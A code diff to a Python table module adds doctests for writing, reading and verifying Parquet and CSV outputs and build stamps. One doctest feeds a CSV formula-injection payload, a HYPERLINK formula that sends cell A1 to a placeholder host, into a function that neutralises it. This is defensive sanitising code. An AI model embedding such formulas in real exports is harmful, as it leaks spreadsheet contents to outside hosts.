@@ -69,12 +69,24 @@ SORT_KEYS: dict[str, list[str]] = {
 
 
 def empty_table(name: str) -> pd.DataFrame:
-    """A table with no rows and the contract's columns and dtypes."""
+    """A table with no rows and the contract's columns and dtypes.
+
+    Example::
+
+        >>> list(empty_table("assignments").columns)
+        ['plan_year', 'task_id', 'department', 'role', 'via', 'kind']
+    """
     return pd.DataFrame({c: pd.Series(dtype=t) for c, t in DTYPES[name].items()})
 
 
 def sort_table(df: pd.DataFrame, name: str) -> pd.DataFrame:
-    """The table's rows in its SORT_KEYS order (A9 before A10 for problem cells), index reset."""
+    """The table's rows in its SORT_KEYS order (A9 before A10 for problem cells), index reset.
+
+    Example::
+
+        >>> sort_table(pd.DataFrame({"file": ["a.xlsx"] * 2, "sheet": ["S"] * 2, "cell": ["A10", "A9"], "field": "", "problem": "", "value": ""}), "problems")["cell"].tolist()
+        ['A9', 'A10']
+    """
     keys = SORT_KEYS[name]
     if not keys:
         return df.reset_index(drop=True)
@@ -87,7 +99,15 @@ def sort_table(df: pd.DataFrame, name: str) -> pd.DataFrame:
 
 
 def write_table(df: pd.DataFrame, out_dir: Path, name: str, sort_by: list[str] | None = None) -> Path:
-    """Write `name.parquet` and `name.csv` (UTF-8 with BOM) under out_dir; return the Parquet path."""
+    """Write `name.parquet` and `name.csv` (UTF-8 with BOM) under out_dir; return the Parquet path.
+
+    Example::
+
+        >>> import tempfile
+        >>> path = write_table(empty_table("ledger"), Path(tempfile.mkdtemp()), "ledger")
+        >>> path.name, path.with_suffix(".csv").exists()
+        ('ledger.parquet', True)
+    """
     out_dir = Path(out_dir)
     out_dir.mkdir(parents=True, exist_ok=True)
     if sort_by:
@@ -123,8 +143,8 @@ def inert_csv_field(value: object) -> object:
     field, which the csv writer does whenever it holds a separator, quote or line break).
     Numbers, and text that is only a number such as "-3", are left alone.
 
-    >>> inert_csv_field('=HYPERLINK("http://x/?d="&A1,"点击")')
-    '\'=HYPERLINK("http://x/?d="&A1,"点击")'
+    >>> print(inert_csv_field('=HYPERLINK("http://x/?d="&A1,"点击")'))
+    '=HYPERLINK("http://x/?d="&A1,"点击")
     >>> inert_csv_field("-3"), inert_csv_field(-3), inert_csv_field("安阳市")
     ('-3', -3, '安阳市')
     """
@@ -141,6 +161,13 @@ def write_csv(df: pd.DataFrame, path: Path, **kwargs) -> Path:
     """The one CSV writer of the suite: UTF-8 with BOM (Excel), `\\n` line ends, every text field
     inert (`inert_csv_field`), written to a temporary file and renamed, so a reader never sees
     half a file. kwargs go to `DataFrame.to_csv` (e.g. date_format). Returns path.
+
+    Example::
+
+        >>> import tempfile
+        >>> path = write_csv(pd.DataFrame({"内容": ["=1+1"]}), Path(tempfile.mkdtemp()) / "a.csv")
+        >>> path.read_text(encoding="utf-8-sig").splitlines()
+        ['内容', "'=1+1"]
     """
     path = Path(path)
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -158,11 +185,19 @@ def write_csv(df: pd.DataFrame, path: Path, **kwargs) -> Path:
 
 
 def read_table(name: str, data_dir: Path | None = None) -> pd.DataFrame:
-    """One processed table as a DataFrame."""
+    """One processed table as a DataFrame.
+
+    Example, on the demo data (`data/processed` after `ledger build`)::
+
+        >>> read_table("ledger").shape
+        (39, 20)
+    """
     data_dir = Path(data_dir) if data_dir else config.processed_dir()
     path = data_dir / f"{name}.parquet"
     if not path.exists():
-        raise FileNotFoundError(f"{path} is missing: run `ledger build` first")
+        from . import labels
+
+        raise FileNotFoundError(labels.CLI_MESSAGES["table_missing"].format(path=path))
     table = pq.read_table(path)
     meta = (table.schema.metadata or {}).get(_DTYPES_KEY.encode())
     df = table.to_pandas()
@@ -170,14 +205,20 @@ def read_table(name: str, data_dir: Path | None = None) -> pd.DataFrame:
 
 
 def load_processed(data_dir: Path | None = None) -> dict[str, pd.DataFrame]:
-    """Every processed table of the build in data_dir, by name, after checking its stamp.
+    """Every processed table of the build in data_dir (default data/processed), by name,
+    after checking its stamp.
 
-    A folder without a complete build stamp (`check_build`) raises BuildIncompleteError
-    naming the fix, `ledger build`, rather than handing a report half a build.
+    A missing folder, or one without a complete build stamp (`check_build`), raises
+    BuildIncompleteError naming the fix, `ledger build`, rather than handing a report half
+    a build (or an empty dict that fails later with KeyError: 'ledger').
 
-    >>> data = load_processed()  # doctest: +SKIP
-    >>> sorted(data)[:3]  # doctest: +SKIP
-    ['activities', 'assignments', 'collection']
+    >>> data = load_processed()                        # doctest: +SKIP
+    >>> data["ledger"].shape, sorted(data)[:3]         # doctest: +SKIP
+    ((39, 17), ['activities', 'assignments', 'collection'])
+    >>> load_processed("no/such/folder")
+    Traceback (most recent call last):
+    ...
+    ledgerlib.tables.BuildIncompleteError: 没有处理后的数据：no/such/folder 不存在，请先运行 `ledger build` / no processed data: no/such/folder does not exist; run `ledger build` first
     """
     data_dir = Path(data_dir) if data_dir else config.processed_dir()
     stamp = check_build(data_dir)
@@ -195,7 +236,16 @@ class BuildIncompleteError(ValueError):
 
 
 def sha256_file(path: Path) -> str:
-    """Hex sha256 of a file, read in 1 MiB blocks."""
+    """Hex sha256 of a file, read in 1 MiB blocks.
+
+    Example::
+
+        >>> import tempfile
+        >>> p = Path(tempfile.mkdtemp()) / "a.txt"
+        >>> _ = p.write_bytes(b"abc")
+        >>> sha256_file(p)[:16]
+        'ba7816bf8f01cfea'
+    """
     h = hashlib.sha256()
     with open(path, "rb") as fh:
         for block in iter(lambda: fh.read(1 << 20), b""):
@@ -219,6 +269,14 @@ def write_stamp(out_dir: Path, inputs: dict[str, str] | None = None,
     {"version", "built_at", "inputs": {raw file: sha256}, "tables": {name: {"rows",
     "parquet", "csv"}}} with the sha256 of every table file, so that a truncated or
     missing file is caught by `check_build`. Written last, through a temporary file.
+
+    Example::
+
+        >>> import tempfile, json
+        >>> folder = Path(tempfile.mkdtemp())
+        >>> _ = write_table(empty_table("ledger"), folder, "ledger")
+        >>> sorted(json.loads(write_stamp(folder).read_text(encoding="utf-8"))["tables"])
+        ['ledger']
     """
     out_dir = Path(out_dir)
     tables = {}
@@ -242,18 +300,26 @@ def check_build(data_dir: Path | None = None) -> dict:
 
     Raises BuildIncompleteError (naming `ledger build`) when the stamp is missing or broken,
     or a table file is missing or differs from what the build wrote.
+
+    Example, on the demo data (`data/processed` after `ledger build`)::
+
+        >>> sorted(check_build()["tables"])[:3]
+        ['activities', 'assignments', 'collection']
     """
+    from .labels import CLI_MESSAGES
+
     data_dir = Path(data_dir) if data_dir else config.processed_dir()
-    fix = "run `ledger build` to rebuild it"
+    if not data_dir.is_dir():
+        raise BuildIncompleteError(CLI_MESSAGES["no_processed"].format(path=data_dir))
     path = data_dir / BUILD_STAMP
     try:
         stamp = json.loads(path.read_text(encoding="utf-8"))
         listed = stamp["tables"]
         stamp["inputs"], stamp["built_at"], stamp["version"]  # noqa: B018 - all three must be there
     except FileNotFoundError:
-        raise BuildIncompleteError(f"{data_dir} holds no complete build (no {BUILD_STAMP}): {fix}") from None
+        raise BuildIncompleteError(CLI_MESSAGES["no_stamp"].format(path=data_dir, stamp=BUILD_STAMP)) from None
     except (OSError, ValueError, KeyError, TypeError):
-        raise BuildIncompleteError(f"{path} is damaged: {fix}") from None
+        raise BuildIncompleteError(CLI_MESSAGES["stamp_damaged"].format(path=path)) from None
     for name, entry in listed.items():
         for kind in ("parquet", "csv"):
             want = entry.get(kind) if isinstance(entry, dict) else None
@@ -261,5 +327,5 @@ def check_build(data_dir: Path | None = None) -> dict:
                 continue
             f = data_dir / f"{name}.{kind}"
             if not f.is_file() or sha256_file(f) != want:
-                raise BuildIncompleteError(f"{f} is missing or not the one the build wrote: {fix}")
+                raise BuildIncompleteError(CLI_MESSAGES["table_changed"].format(path=f))
     return stamp
